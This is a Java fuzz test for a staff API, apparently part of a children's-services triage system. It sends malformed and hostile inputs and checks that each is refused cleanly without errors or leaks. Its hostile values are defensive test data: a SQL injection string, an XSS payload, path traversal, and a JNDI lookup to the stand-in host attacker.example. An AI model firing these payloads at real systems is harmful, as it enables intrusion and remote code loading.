package uk.frontdoor.infra.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.jupiter.api.Test;
import uk.frontdoor.infra.IntegrationTestSupport;
import uk.frontdoor.triage.api.ClockBreached;
import uk.frontdoor.triage.api.ClockWarned;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The staff API under {@code /api/v1}, fuzzed from its own OpenAPI document: every operation, every path and
 * query parameter and every command body, with values of the right type and hostile ones (wrong types,
 * huge and empty strings, control characters, injection strings, impossible numbers, dates in the future,
 * before the contact or not dates at all), malformed JSON and missing bodies, as each role. A new endpoint
 * is fuzzed without a change here. For each answer: no 5xx; every 4xx a problem+json, and every 400 naming
 * the parameter or field it refused (or the body, as {@code ""}), or the rule; no stack trace and none of
 * the attack strings in any answer; nothing appended to the event store for a refused command. Afterwards the
 * service is healthy and nothing it logged during the run carries a stack trace.
 *
 * <p>{@code -Dfrontdoor.fuzz.staff-tries=N} requests (else {@code frontdoor.fuzz.tries});
 * {@code -Dfrontdoor.fuzz.seed=S} replays a run.
 */
class StaffApiFuzzTest extends IntegrationTestSupport {

    private static final List<String> USERS = List.of("sw1", "sw2", "manager1", "admin1", "sysadmin1");
    /** Not fuzzed here: the partner submission has its own suite, and a stream stays open by design. */
    private static final List<String> SKIPPED = List.of("POST /api/v1/contacts", "GET /api/v1/alerts/stream");

    private static final List<String> HOSTILE_TEXT = new ArrayList<>(List.of("", " ", "-1", "0", "-0", "1e3", "NaN",
            "99999999999999999999", "2147483648", "-2147483649", "0x10", "1,2", "true", "null", "[]", "{}",
            "2023-02-30", "2023-13-01", "31/12/2020", "+10000-01-01", "2026-11-20T25:00:00Z", "Zoë", "\u0000",
            "\u001B[31m", "\u2028", "\uFEFF", "a\u202Eb", "\uD800", "%00", "%", "../..", "..%2f..", "\\", "*",
            "x".repeat(5_000), "é".repeat(30_000)));

    static {
        HOSTILE_TEXT.addAll(HostileSubmissions.INJECTIONS);
    }

    /** Requests in the run: {@code -Dfrontdoor.fuzz.staff-tries=N}, else as many as each edge's inputs. */
    static final int TRIES = Integer.getInteger("frontdoor.fuzz.staff-tries", SubmissionFuzzTest.TRIES);

    private final JsonNodeFactory nodes = JsonNodeFactory.instance;

    @Test
    void every_staff_operation_refuses_hostile_parameters_and_bodies_with_a_problem_and_stays_healthy() throws Exception {
        Random random = new Random(SubmissionFuzzTest.SEED + 2);
        Map<String, List<String>> ids = realIds();
        JsonNode api = json.readTree(get("/v3/api-docs", staff("sw1")).body());
        List<Operation> operations = operations(api);
        assertThat(operations).as("operations in the OpenAPI document").hasSizeGreaterThan(20);

        Map<String, Integer> answers = new TreeMap<>();
        DistinctFailures failures = new DistinctFailures();
        try (CapturedLog log = CapturedLog.capture()) {
            for (int i = 0; i < TRIES; i++) {
                Operation operation = operations.get(random.nextInt(operations.size()));
                Request request = request(operation, api, ids, random);
                String what = "seed " + SubmissionFuzzTest.SEED + ", request " + i + ": " + operation.method() + " "
                        + operation.path() + " as " + request.user() + " (" + request.kind() + ")";
                long eventsBefore = lastEvent();

                HttpResponse<String> answer = send(request.http());

                int status = answer.statusCode();
                answers.merge(operation.method() + " " + operation.path() + " " + status, 1, Integer::sum);
                // Every distinct failure is kept (one example each), so one run shows all that is wrong.
                failures.check(operation.method() + " " + operation.path() + " " + status, () -> {
                    assertThat(status).as(what + ": " + answer.body()).isLessThan(500);
                    if (status < 400) {
                        // A read answers what partners wrote, as they wrote it: a narrative may legitimately hold
                        // text that looks like an attack (the partner fuzz stores such contacts). Only a refusal
                        // must never echo what it refused. So, too, what a manager wrote: a hold's reason read back
                        // may be "__${T(java.lang.Runtime)...", which holds a stack trace's sign: what this run's
                        // requests wrote is taken out before looking for one.
                        SubmissionFuzzTest.assertNoStackTrace(withoutWhatWasWritten(answer.body()), what);
                    } else {
                        SubmissionFuzzTest.assertNoStackTraceOrAttack(answer.body(), what);
                    }
                    if (status >= 400) {
                        assertProblem(answer, what);
                        assertThat(eventsSince(eventsBefore)).as(what + ": an event was stored for a refused command")
                                .isZero();
                    }
                });
            }
            failures.assertNone();
            HttpResponse<String> health = get("/actuator/health", null);
            assertThat(body(health)).containsEntry("status", "UP");
            assertThat(log.withStackTraces()).as("logged with a stack trace (seed " + SubmissionFuzzTest.SEED + ")").isEmpty();
            SubmissionFuzzTest.assertNothingLogged(log);
        }
        System.out.printf("Staff API fuzz: %d requests over %d operations (seed %d): %s%n", TRIES,
                operations.size(), SubmissionFuzzTest.SEED, answers);
    }

    private void assertProblem(HttpResponse<String> answer, String what) {
        assertThat(answer.headers().firstValue("Content-Type").orElse("")).as(what + ": " + answer.body())
                .startsWith("application/problem+json");
        Map<String, Object> problem;
        try {
            problem = body(answer);
        } catch (java.io.UncheckedIOException unreadable) {
            throw new AssertionError(what + ": the problem does not read as JSON (" + unreadable.getCause() + "): "
                    + answer.body().replace("\u0000", "\\u0000"), unreadable);
        }
        assertThat(problem).as(what).containsKeys("type", "title").containsEntry("status", answer.statusCode());
        if (answer.statusCode() == 400) {
            // A 400 names what it refused: the parameter or field (errors[].field), or the rule broken.
            boolean namesAField = problem.get("errors") instanceof List<?> errors && !errors.isEmpty()
                    && errors.stream().allMatch(e -> e instanceof Map<?, ?> m && m.get("field") instanceof String);
            assertThat(namesAField || problem.get("rule") instanceof String).as(what + ": " + answer.body()).isTrue();
        }
    }

    private long lastEvent() {
        return jdbc.sql("SELECT coalesce(max(globalindex), 0) FROM domainevententry").query(Long.class).single();
    }

    /**
     * Events stored after this one, but for a clock's warning or breach: deadlines fire on their own time, in the
     * shared service, whatever request is being made (a run saw 24 land during one refused request).
     */
    private long eventsSince(long event) {
        return jdbc.sql("SELECT count(*) FROM domainevententry WHERE globalindex > ? AND payloadtype NOT IN (?, ?)")
                .params(event, ClockWarned.class.getName(), ClockBreached.class.getName())
                .query(Long.class).single();
    }

    // ---- the operations, from the OpenAPI document

    record Operation(String method, String path, JsonNode spec) {
    }

    private static List<Operation> operations(JsonNode api) {
        List<Operation> operations = new ArrayList<>();
        api.get("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(method -> {
            String name = method.getKey().toUpperCase();
            if (path.getKey().startsWith("/api/v1/") && !SKIPPED.contains(name + " " + path.getKey())
                    && List.of("GET", "POST", "PUT", "PATCH", "DELETE").contains(name)) {
                operations.add(new Operation(name, path.getKey(), method.getValue()));
            }
        }));
        return operations;
    }

    record Request(HttpRequest http, String user, String kind) {
    }

    private Request request(Operation operation, JsonNode api, Map<String, List<String>> ids, Random random) {
        List<String> kinds = new ArrayList<>();
        String path = operation.path();
        StringBuilder query = new StringBuilder();
        for (JsonNode parameter : operation.spec().path("parameters")) {
            String name = parameter.get("name").asText();
            String in = parameter.get("in").asText();
            if (in.equals("path")) {
                String value = pathValue(name, ids, random, kinds);
                path = path.replace("{" + name + "}", encode(value));
            } else if (in.equals("query") && random.nextInt(10) < 7) {
                int times = random.nextInt(10) == 0 ? 2 : 1;
                for (int t = 0; t < times; t++) {
                    boolean hostile = random.nextBoolean();
                    String value = hostile ? pick(HOSTILE_TEXT, random) : valid(parameter.path("schema"), api, random).asText();
                    kinds.add((hostile ? "hostile " : "") + name);
                    query.append(query.isEmpty() ? "?" : "&").append(encode(name)).append('=').append(encode(value));
                }
            }
        }
        if (random.nextInt(20) == 0) {
            query.append(query.isEmpty() ? "?" : "&").append("unknown=").append(encode(pick(HOSTILE_TEXT, random)));
            kinds.add("unknown parameter");
        }
        String user = pick(USERS, random);
        HttpRequest.Builder http = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path + query))
                .header("Authorization", staff(user));
        JsonNode schema = operation.spec().path("requestBody").path("content").path("application/json").path("schema");
        if (operation.method().equals("GET")) {
            http.GET();
        } else {
            byte[] body = null;
            String contentType = "application/json";
            int shape = random.nextInt(20);
            if (shape == 0) {
                kinds.add("no body");
            } else if (shape == 1) {
                body = pick(List.of("{", "[]", "null", "\"x\"", "{\"a\":}", "{}{}", "{\"reason\":\"a\",\"reason\":\"b\"}"), random)
                        .getBytes(StandardCharsets.UTF_8);
                kinds.add("malformed JSON");
            } else if (shape == 2) {
                body = "[".repeat(50_000).getBytes(StandardCharsets.UTF_8);
                kinds.add("deep nesting");
            } else if (shape == 3) {
                body = new byte[]{'{', '"', 'r', (byte) 0xFF, '"', ':', '1', '}'};
                kinds.add("bytes that are not UTF-8");
            } else if (shape == 4) {
                body = "reason=x".getBytes(StandardCharsets.UTF_8);
                contentType = "application/x-www-form-urlencoded";
                kinds.add("form body");
            } else {
                JsonNode value = schema.isMissingNode() ? nodes.objectNode() : hostileBody(schema, api, random, kinds);
                body = bytes(value);
            }
            if (body != null) {
                http.header("Content-Type", contentType);
            }
            http.method(operation.method(), body == null ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(body));
        }
        return new Request(http.build(), user, String.join(", ", kinds));
    }

    private String pathValue(String name, Map<String, List<String>> ids, Random random, List<String> kinds) {
        List<String> real = ids.getOrDefault(name, List.of());
        if (!real.isEmpty() && random.nextInt(10) < 7) {
            return pick(real, random);
        }
        kinds.add("hostile " + name);
        return pick(List.of(UUID.randomUUID().toString(), "00000000-0000-0000-0000-000000000000", "x".repeat(3_000),
                "'; DROP TABLE contact_registry; --", "<script>alert(1)</script>", "Zoë", "%00", "..", "a b",
                "${jndi:ldap://attacker.example/a}", "-1", "0", "\u202E"), random);
    }

    /** A body for the schema: each property valid, missing or hostile; sometimes a wrong type for the whole. */
    private JsonNode hostileBody(JsonNode schema, JsonNode api, Random random, List<String> kinds) {
        JsonNode resolved = resolve(schema, api);
        if (random.nextInt(15) == 0) {
            kinds.add("body of the wrong type");
            return pick(List.of(nodes.arrayNode(), nodes.numberNode(1), nodes.textNode("x"), nodes.booleanNode(false)), random);
        }
        if (!resolved.has("properties")) {
            return valid(resolved, api, random);
        }
        ObjectNode body = nodes.objectNode();
        Iterator<Map.Entry<String, JsonNode>> properties = resolved.get("properties").fields();
        while (properties.hasNext()) {
            Map.Entry<String, JsonNode> property = properties.next();
            int choice = random.nextInt(10);
            if (choice < 5) {
                body.set(property.getKey(), valid(property.getValue(), api, random));
            } else if (choice < 6) {
                kinds.add("no " + property.getKey());
            } else {
                kinds.add("hostile " + property.getKey());
                body.set(property.getKey(), hostileValue(random));
            }
        }
        if (random.nextInt(10) == 0) {
            body.put("unknownField", "x");
            kinds.add("unknown field");
        }
        return body;
    }

    private JsonNode hostileValue(Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> nodes.nullNode();
            case 1 -> nodes.numberNode(random.nextBoolean() ? -1 : Long.MAX_VALUE);
            case 2 -> nodes.booleanNode(true);
            case 3 -> nodes.objectNode().put("x", "y");
            case 4 -> nodes.arrayNode().add(pick(HOSTILE_TEXT, random)).add(7);
            case 5 -> nodes.textNode(Instant.now().minus(random.nextInt(40_000), ChronoUnit.DAYS).toString());
            case 6 -> nodes.textNode(Instant.now().plus(1 + random.nextInt(40_000), ChronoUnit.DAYS).toString());
            case 7 -> nodes.textNode(LocalDate.now().plusDays(random.nextInt(80_000) - 40_000).toString());
            default -> nodes.textNode(pick(HOSTILE_TEXT, random));
        };
    }

    /** A value the schema allows (as far as a schema says: the rules behind it may still refuse it). */
    private JsonNode valid(JsonNode schema, JsonNode api, Random random) {
        JsonNode resolved = resolve(schema, api);
        if (resolved.has("enum")) {
            JsonNode choices = resolved.get("enum");
            return choices.get(random.nextInt(choices.size()));
        }
        String type = resolved.path("type").asText("object");
        String format = resolved.path("format").asText("");
        return switch (type) {
            case "integer", "number" -> nodes.numberNode(random.nextInt(600) - 5);
            case "boolean" -> nodes.booleanNode(random.nextBoolean());
            case "array" -> {
                ArrayNode array = nodes.arrayNode();
                int n = random.nextInt(3);
                for (int k = 0; k < n; k++) {
                    array.add(valid(resolved.path("items"), api, random));
                }
                yield array;
            }
            case "object" -> {
                ObjectNode object = nodes.objectNode();
                resolved.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(), valid(p.getValue(), api, random)));
                yield object;
            }
            default -> switch (format) {
                case "date-time" -> nodes.textNode(Instant.now().minus(random.nextInt(72), ChronoUnit.HOURS)
                        .truncatedTo(ChronoUnit.SECONDS).toString());
                case "date" -> nodes.textNode(LocalDate.now().minusDays(random.nextInt(400)).toString());
                default -> nodes.textNode(pick(List.of("A reason.", "sw2", "manager1", "POLICE", "HEALTH", "1", "10",
                        LocalDate.now().toString(), "Sam", "Example", "SL1 1AA"), random));
            };
        };
    }

    private static JsonNode resolve(JsonNode schema, JsonNode api) {
        JsonNode current = schema;
        for (int depth = 0; depth < 10 && current.has("$ref"); depth++) {
            String ref = current.get("$ref").asText();
            current = ref.startsWith("#/") ? api.at(ref.substring(1)) : JsonNodeFactory.instance.objectNode();
        }
        if (current.has("allOf") && current.get("allOf").size() == 1) {
            return resolve(current.get("allOf").get(0), api);
        }
        return current;
    }

    // ---- real ids, so that commands reach the rules behind the parameters

    private Map<String, List<String>> realIds() {
        List<String> contacts = new ArrayList<>();
        List<String> children = new ArrayList<>();
        for (int i = 0; i < 3; i++) {
            String contactId = contactIdOf(postContact(POLICE_KEY, submission()));
            contacts.add(contactId);
            children.add(childOf(contactId));
        }
        List<String> checks = new ArrayList<>();
        postJson("/api/v1/contacts/" + contacts.get(0) + "/claim", staff("sw1"), null);
        HttpResponse<String> requested = postJson("/api/v1/contacts/" + contacts.get(0) + "/partner-checks", staff("sw1"),
                Map.of("agencies", List.of("HEALTH"), "question", "Known to health?"));
        if (requested.statusCode() == 201) {
            try {
                json.readTree(requested.body()).forEach(receipt -> receipt.fields().forEachRemaining(field -> {
                    if (field.getKey().toLowerCase().contains("id") && !field.getKey().equals("contactId")) {
                        checks.add(field.getValue().asText());
                    }
                }));
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }
        List<String> alerts = jdbc.sql("SELECT clock_id FROM timeliness_clocks ORDER BY clock_id DESC LIMIT 5").query(String.class).list();
        return Map.of("contactId", contacts, "childId", children, "checkId", checks, "alertId", alerts,
                "duty", List.of("return-home-interview", "private-fostering-visit", "lado-referral", "RETURN_HOME_INTERVIEW"), "name", List.of("no-such-projection"));
    }

    private static <T> T pick(List<T> choices, Random random) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The answer without any of the hostile texts this test sends, as written or as JSON writes them. */
    private static String withoutWhatWasWritten(String body) {
        if (body == null) {
            return null;
        }
        String left = body;
        for (String text : HOSTILE_TEXT) {
            if (text.length() >= 8) {
                left = left.replace(text, "").replace(asJsonText(text), "");
            }
        }
        return left;
    }

    private static String asJsonText(String text) {
        try {
            String quoted = PLAIN_JSON.writeValueAsString(text);
            return quoted.substring(1, quoted.length() - 1);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static final com.fasterxml.jackson.databind.ObjectMapper PLAIN_JSON =
            new com.fasterxml.jackson.databind.ObjectMapper();
}
